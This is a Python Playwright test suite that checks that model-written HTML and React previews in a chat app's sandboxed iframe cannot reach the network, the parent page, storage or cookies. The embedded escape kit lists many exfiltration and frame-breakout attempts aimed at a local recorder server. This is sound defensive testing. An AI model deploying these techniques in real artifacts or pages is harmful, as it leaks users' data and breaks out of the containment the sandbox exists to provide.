"""What a model wrote cannot get out of its frame: whatever a page could try is tried in a real browser."""

import asyncio
import contextlib
import json
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.async_api import Browser, Page, Route, expect

from tests.e2e.chat import Chat
from tests.e2e.conftest import DESKTOP
from tests.services.chromium import find_chromium, launch_flags
from tests.services.freehold_server import FreeholdServer

pytestmark = pytest.mark.browser


@dataclass
class Recorder(asyncio.DatagramProtocol):
    """A server that takes down whatever reaches it, over TCP and UDP."""

    port: int = 0
    udp_port: int = 0
    seen: list[bytes] = field(default_factory=list)

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        del addr
        self.seen.append(b"udp " + data[:40])

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        at = len(self.seen)
        self.seen.append(b"tcp")  # a connection without a request has told something already
        with contextlib.suppress(TimeoutError, OSError):
            self.seen[at] += b" " + (await asyncio.wait_for(reader.readline(), 5)).strip()
            writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nok")
            await writer.drain()
        writer.close()

    async def hears(self, *names: str) -> None:
        """Wait until a request for each of these has arrived; `udp` is anything over UDP."""
        missing = set(names)
        deadline = time.monotonic() + 15
        while missing:
            assert time.monotonic() < deadline, f"{missing} did not arrive: {self.seen}"
            await asyncio.sleep(0.1)
            seen = b" ".join(self.seen).decode("latin-1")
            missing = {name for name in names if (name if name == "udp" else f"/{name} ") not in seen}


@pytest.fixture
async def recorder() -> AsyncIterator[Recorder]:
    loop = asyncio.get_running_loop()
    recorder = Recorder()
    transport, _ = await loop.create_datagram_endpoint(lambda: recorder, local_addr=("127.0.0.1", 0))
    recorder.udp_port = transport.get_extra_info("sockname")[1]
    server = await asyncio.start_server(recorder.connected, "127.0.0.1", 0)
    recorder.port = server.sockets[0].getsockname()[1]
    yield recorder
    transport.close()
    server.close()


@pytest.fixture
async def page(browser: Browser) -> AsyncIterator[Page]:
    """A page of its own, where complaints of the policy are no failure.

    Its browser does not ask whether pages may reach this machine: what is proven must not hang on that question.
    """
    flags = [*launch_flags(), "--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWebRTC"]
    own = await browser.browser_type.launch(executable_path=find_chromium(), args=flags)
    context = await own.new_context(locale="en-GB", viewport=DESKTOP)
    yield await context.new_page()
    await own.close()


KIT = """<!doctype html>
<title>Kit</title>
<link rel="stylesheet" href="HTTP/link.css">
<link rel="icon" href="HTTP/icon.png">
<link rel="preload" as="script" href="HTTP/preload.js">
<link rel="modulepreload" href="HTTP/modulepreload.js">
<link rel="prefetch" href="HTTP/prefetch">
<link rel="prerender" href="HTTP/prerender">
<link rel="preconnect" href="HTTP/">
<link rel="manifest" href="HTTP/manifest">
<style>
@import "HTTP/import.css";
@font-face { font-family: far; src: url(HTTP/font.woff2) }
body { font-family: far; background: url(HTTP/background.png) }
</style>
<script type="speculationrules">
{"prefetch": [{"urls": ["HTTP/speculated"]}], "prerender": [{"urls": ["HTTP/prerendered"]}]}
</script>
<script src="HTTP/script.js"></script>
<script type="module">import("HTTP/module.js").catch(() => 0)</script>
<img src="HTTP/image.png"><img srcset="HTTP/srcset.png 1x"><picture><source srcset="HTTP/source.png"><img></picture>
<video src="HTTP/video.mp4" poster="HTTP/poster.png" autoplay></video><audio src="HTTP/audio.mp3" autoplay></audio>
<track src="HTTP/track.vtt"><object data="HTTP/object"></object><embed src="HTTP/embed">
<iframe src="HTTP/frame"></iframe><iframe srcdoc="<img src='HTTP/srcdoc.png'>"></iframe>
<iframe src="data:text/html,<img src='HTTP/data.png'>"></iframe>
<svg width="9" height="9"><image href="HTTP/svg.png"/><use href="HTTP/use.svg#a"/></svg>
<form action="HTTP/form" method="post"><input name="a" value="b"></form>
<a id="ping" href="#" ping="HTTP/ping">ping</a><a id="top" href="HTTP/top" target="_top">top</a>
<a id="blank" href="HTTP/blank" target="_blank">blank</a>
<div id="report"></div>
<script>
const got = {}
const tries = {
  fetch: () => fetch("HTTP/fetch"),
  fetchBlind: () => fetch("HTTP/blind", { mode: "no-cors" }),
  keepalive: () => fetch("HTTP/keepalive", { keepalive: true, method: "POST", mode: "no-cors" }),
  own: () => fetch("OWN/api/threads").then((answer) => answer.text()),
  xhr: () => new Promise((yes, no) => {
    const request = new XMLHttpRequest()
    request.onload = yes
    request.onerror = no
    request.open("GET", "HTTP/xhr")
    request.send()
  }),
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket("WS/socket")
    socket.onopen = yes
    socket.onerror = no
  }),
  events: () => new Promise((yes, no) => {
    const events = new EventSource("HTTP/events")
    events.onopen = yes
    events.onerror = no
  }),
  transport: () => new WebTransport("https://127.0.0.1:PORT/transport").ready,
  beacon: () => navigator.sendBeacon("HTTP/beacon", "x"),
  picture: () => new Promise((yes, no) => {
    const picture = new Image()
    picture.onload = yes
    picture.onerror = no
    picture.src = "HTTP/picture.png"
  }),
  worker: () => new Promise((yes, no) => {
    const code = "fetch('HTTP/worker').then(() => postMessage(1), () => postMessage(0))"
    const worker = new Worker(URL.createObjectURL(new Blob([code])))
    worker.onmessage = ({ data }) => data ? yes() : no()
    worker.onerror = no
  }),
  farWorker: () => new Worker("HTTP/worker.js"),
  importScripts: () => new Promise((yes, no) => {
    const code = "try { importScripts('HTTP/imported.js'); postMessage(1) } catch { postMessage(0) }"
    const worker = new Worker(URL.createObjectURL(new Blob([code])))
    worker.onmessage = ({ data }) => data ? yes() : no()
    worker.onerror = no
  }),
  serviceWorker: () => navigator.serviceWorker.register("/artifact-frame"),
  webrtc: () => new Promise((yes, no) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] })
    peer.createDataChannel("a")
    peer.onicecandidate = ({ candidate }) => candidate?.type === 'srflx' && yes()
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(no)
    setTimeout(no, 2000)
  }),
  parentPage: () => parent.document.title,
  parentHash: () => parent.location.href,
  topPage: () => top.document.cookie,
  frameElement: () => frameElement.id,
  cookie: () => document.cookie,
  setCookie: () => { document.cookie = "a=b"; return document.cookie },
  local: () => localStorage.length,
  session: () => sessionStorage.length,
  database: () => new Promise((yes, no) => {
    const request = indexedDB.open("a")
    request.onsuccess = yes
    request.onerror = no
  }),
  caches: () => caches.open("a"),
  files: () => navigator.storage.getDirectory(),
  popup: () => open("HTTP/popup").document,
  topWay: () => { top.location = "HTTP/top-way"; return top.location.href },
  clipboard: () => navigator.clipboard.readText(),
  position: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
  notice: () => Notification.requestPermission().then((answer) => answer === "granted" ? 1 : Promise.reject()),
  fullscreen: () => document.documentElement.requestFullscreen(),
  dialog: () => confirm("?") || Promise.reject(),
}
const hung = () => new Promise((_, no) => setTimeout(no, 4000))
const run = async () => {
  await Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
    try { got[name] = String(await Promise.race([attempt(), hung()])) } catch { /* as it should be */ }
  }))
  delete got.beacon // true even where nothing is sent: the recorder knows
  for (const id of ["ping", "top", "blank"]) try { document.getElementById(id).click() } catch {}
  try { document.forms[0].submit() } catch {}
  report.textContent = JSON.stringify(got)
  parent.postMessage({ escape: true, ready: true, html: "x" }, "*")
}
run()
</script>"""

COMPONENT = """import { useEffect, useState } from "react";
export default function Spy() {
  const [got, setGot] = useState(null);
  useEffect(() => {
    const tries = {
      fetch: () => fetch("HTTP/fetch"),
      own: () => fetch("OWN/api/threads"),
      module: () => import("HTTP/module.js"),
      script: () => new Promise((yes, no) => {
        const script = document.createElement("script");
        script.onload = yes;
        script.onerror = no;
        script.src = "HTTP/script.js";
        document.head.append(script);
      }),
      page: () => parent.document.title,
      cookie: () => document.cookie,
      storage: () => localStorage.length,
    };
    const attempt = async ([name, run]) => {
      try { await run(); return name; } catch { return null; }
    };
    Promise.all(Object.entries(tries).map(attempt)).then((names) => setGot(names.filter(Boolean)));
  }, []);
  return got && <div id="report" style={{ backgroundImage: "url(HTTP/image.png)" }}>{JSON.stringify(got)}</div>;
}"""

LEAVE = [
    "location = 'HTTP/location'",
    "location.replace('HTTP/replace')",
    "location = 'data:text/html,<script>new Image().src=`HTTP/data-way`</script>'",
    "location = URL.createObjectURL(new Blob(['<img src=HTTP/blob-way>'], { type: 'text/html' }))",
    "document.body.innerHTML = `<a href=HTTP/anchor>a</a>`; document.querySelector('a').click()",
    "document.body.innerHTML = `<a href=HTTP/save download>a</a>`; document.querySelector('a').click()",
    "document.head.innerHTML = `<meta http-equiv=refresh content='0; url=HTTP/refreshed'>`",
]


async def show(page: Page, server: FreeholdServer, code: str, lang: str = "html") -> Chat:
    """The answer is that page or component, and the reader asks to see it."""
    chat = Chat(page, server.url)
    await chat.open()
    await chat.composer.fill(f"```{lang}\n{code}\n```")
    await chat.composer.press("Enter")
    await expect(chat.answers).to_have_count(1)
    await chat.finished()
    await chat.answer.get_by_role("button", name="Preview").click()
    return chat


async def usable(chat: Chat) -> None:
    """The app still does what it is for."""
    assert chat.page.url.startswith(chat.url)
    assert len(chat.page.context.pages) == 1, "a window was opened"
    count = await chat.answers.count()
    await chat.composer.fill("still there")
    await chat.composer.press("Enter")
    await expect(chat.answers).to_have_count(count + 1)
    await expect(chat.answer).to_contain_text("still there")


async def escape(page: Page, server: FreeholdServer, recorder: Recorder) -> tuple[Chat, dict[str, Any]]:
    """Runs the kit; returns what it could read."""
    http = f"http://127.0.0.1:{recorder.port}"
    kit = KIT.replace("HTTP", http).replace("WS/", f"ws://127.0.0.1:{recorder.port}/").replace("OWN", server.url)
    chat = await show(page, server, kit.replace("PORT", str(recorder.port)).replace("UDP", str(recorder.udp_port)))
    report = page.frame_locator("iframe.artifact-frame").locator("#report")
    await expect(report).not_to_be_empty(timeout=20_000)
    await page.wait_for_timeout(1500)  # what was set off may take a moment to arrive
    return chat, json.loads(await report.text_content() or "{}")


async def test_the_escape_kit_reaches_nothing(page: Page, server: FreeholdServer, recorder: Recorder) -> None:
    chat, got = await escape(page, server, recorder)
    assert (got, recorder.seen) == ({}, []), "something was read, or arrived"
    await expect(page.locator("aside.panel")).to_be_visible()
    await usable(chat)


async def bare(route: Route) -> None:
    """The frame without its headers."""
    answer = await route.fetch()
    await route.fulfill(body=await answer.text(), content_type="text/html")


async def test_without_the_headers_the_kit_gets_out(page: Page, server: FreeholdServer, recorder: Recorder) -> None:
    """The test above can fail: the same kit in the same frame is heard as soon as its headers are taken away."""

    await page.route("**/artifact-frame", bare)
    _, got = await escape(page, server, recorder)
    await recorder.hears("image.png", "link.css", "font.woff2")
    await recorder.hears("fetch", "xhr", "socket", "script.js", "worker", "beacon", "udp")
    assert "fetch" in got


@pytest.mark.parametrize("headers", [True, False])
async def test_a_component_reaches_nothing(
    page: Page, server: FreeholdServer, recorder: Recorder, headers: bool
) -> None:
    """It is written into the same frame; without its headers the same component is heard, so the test can fail."""
    if not headers:
        await page.route("**/artifact-frame", bare)
    code = COMPONENT.replace("HTTP", f"http://127.0.0.1:{recorder.port}").replace("OWN", server.url)
    chat = await show(page, server, code, "jsx")
    report = page.frame_locator("iframe.artifact-frame").locator("#report")
    await expect(report).not_to_be_empty(timeout=20_000)
    await page.wait_for_timeout(1500)  # what was set off may take a moment to arrive
    got = json.loads(await report.text_content() or "{}")
    if headers:
        assert (got, recorder.seen) == ([], [])
        await usable(chat)
    else:
        assert got == ["fetch", "script"]
        await recorder.hears("fetch", "script.js", "image.png")


@pytest.mark.parametrize("way", LEAVE)
async def test_the_frame_cannot_go_elsewhere(page: Page, server: FreeholdServer, recorder: Recorder, way: str) -> None:
    way = way.replace("HTTP", f"http://127.0.0.1:{recorder.port}")
    chat = await show(page, server, f"<h1>Leaving</h1><script>setTimeout(() => {{ {way} }}, 300)</script>")
    await page.wait_for_timeout(2000)
    assert recorder.seen == []
    await usable(chat)


async def test_an_endless_loop_does_not_hang_the_app(page: Page, server: FreeholdServer) -> None:
    """Chromium runs a frame without an origin in a process of its own."""
    chat = await show(page, server, "<h1>Loop</h1><script>for (;;);</script>")
    await expect(page.locator("iframe.artifact-frame:not(.is-coming)")).to_be_attached(timeout=10_000)
    longest = await page.evaluate(
        """async () => {
            let longest = 0, before = performance.now()
            for (let at = 0; at < 20; at += 1) {
                await new Promise((go) => setTimeout(go, 50))
                longest = Math.max(longest, performance.now() - before)
                before = performance.now()
            }
            return longest
        }"""
    )
    assert longest < 2000, "the app hung"
    await usable(chat)
    await page.locator("aside.panel").get_by_role("button", name="Close").click()
    await expect(page.locator("iframe")).to_have_count(0)
    await usable(chat)
